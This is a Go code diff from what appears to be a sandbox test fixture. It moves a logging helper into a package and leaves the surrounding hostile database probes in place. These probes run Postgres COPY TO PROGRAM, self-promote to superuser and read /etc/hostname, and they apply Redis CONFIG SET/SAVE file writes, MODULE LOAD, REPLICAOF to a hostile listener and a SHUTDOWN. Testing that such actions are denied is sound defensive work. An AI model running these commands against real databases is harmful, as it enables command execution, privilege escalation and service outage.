@@ -15,7 +15,6 @@ import (
 	"context"
 	"database/sql"
 	"fmt"
-	"log"
 	"net"
 	"net/http"
 	"os"
@@ -25,55 +24,48 @@ import (
 	"github.com/redis/go-redis/v9"
 	"github.com/redis/go-redis/v9/maintnotifications"
 
+	"github.com/pytest-goleak/go_fixtures/internal/attempt"
 	"github.com/pytest-goleak/go_fixtures/internal/server"
 )
-
-func report(name string, err error) {
-	if err != nil {
-		log.Printf("ATTEMPT %s: denied: %v", name, err)
-	} else {
-		log.Printf("ATTEMPT %s: ok", name)
-	}
-}
 
 func postgres(ctx context.Context, dir string) {
 	db, err := sql.Open("pgx", os.Getenv("DATABASE_URL"))
 	if err != nil {
-		report("pg-open", err)
+		attempt.Report("pg-open", err)
 		return
 	}
 	defer db.Close()
 	_, err = db.ExecContext(ctx, fmt.Sprintf("COPY (SELECT 1) TO PROGRAM 'touch %s/pg-program'", dir))
-	report("pg-copy-to-program", err)
+	attempt.Report("pg-copy-to-program", err)
 	_, err = db.ExecContext(ctx, "ALTER ROLE CURRENT_USER SUPERUSER")
-	report("pg-alter-role-superuser", err)
+	attempt.Report("pg-alter-role-superuser", err)
 	var text string
 	err = db.QueryRowContext(ctx, "SELECT pg_read_file('/etc/hostname')").Scan(&text)
-	report("pg-read-file", err)
+	attempt.Report("pg-read-file", err)
 	_, err = db.ExecContext(ctx, fmt.Sprintf("COPY (SELECT 1) TO '%s/pg-copy-file'", dir))
-	report("pg-copy-to-file", err)
+	attempt.Report("pg-copy-to-file", err)
 }
 
 func redisAttacks(ctx context.Context, dir string) {
 	opt, err := redis.ParseURL(os.Getenv("REDIS_URL"))
 	if err != nil {
-		report("redis-url", err)
+		attempt.Report("redis-url", err)
 		return
 	}
 	opt.MaintNotificationsConfig = &maintnotifications.Config{Mode: maintnotifications.ModeDisabled}
 	rdb := redis.NewClient(opt)
 	defer rdb.Close()
-	report("redis-ping", rdb.Ping(ctx).Err())
-	report("redis-config-set-dir", rdb.ConfigSet(ctx, "dir", dir).Err())
-	report("redis-config-set-dbfilename", rdb.ConfigSet(ctx, "dbfilename", "redis-save.rdb").Err())
-	report("redis-save", rdb.Save(ctx).Err())
-	report("redis-module-load", rdb.Do(ctx, "MODULE", "LOAD", dir+"/nothing.so").Err())
-	report("redis-debug", rdb.Do(ctx, "DEBUG", "SLEEP", "0").Err())
+	attempt.Report("redis-ping", rdb.Ping(ctx).Err())
+	attempt.Report("redis-config-set-dir", rdb.ConfigSet(ctx, "dir", dir).Err())
+	attempt.Report("redis-config-set-dbfilename", rdb.ConfigSet(ctx, "dbfilename", "redis-save.rdb").Err())
+	attempt.Report("redis-save", rdb.Save(ctx).Err())
+	attempt.Report("redis-module-load", rdb.Do(ctx, "MODULE", "LOAD", dir+"/nothing.so").Err())
+	attempt.Report("redis-debug", rdb.Do(ctx, "DEBUG", "SLEEP", "0").Err())
 	if host, port, err := net.SplitHostPort(os.Getenv("HOSTILE_LISTENER")); err == nil {
-		report("redis-replicaof", rdb.Do(ctx, "REPLICAOF", host, port).Err())
+		attempt.Report("redis-replicaof", rdb.Do(ctx, "REPLICAOF", host, port).Err())
 	}
-	report("redis-shutdown", rdb.Do(ctx, "SHUTDOWN", "NOSAVE").Err())
-	report("redis-config-set-maxclients", rdb.ConfigSet(ctx, "maxclients", "1").Err())
+	attempt.Report("redis-shutdown", rdb.Do(ctx, "SHUTDOWN", "NOSAVE").Err())
+	attempt.Report("redis-config-set-maxclients", rdb.ConfigSet(ctx, "maxclients", "1").Err())
 }
 
 func main() {
